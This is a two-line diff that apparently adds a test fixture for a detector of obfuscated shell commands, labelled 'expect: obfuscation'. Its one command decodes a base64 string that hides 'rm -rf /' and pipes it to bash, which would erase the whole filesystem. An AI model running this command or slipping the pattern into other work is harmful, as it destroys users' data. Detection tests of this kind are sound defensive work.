@@ -1,0 +1,2 @@
+# expect: obfuscation
+echo cm0gLXJmIC8= | base64 -d | bash
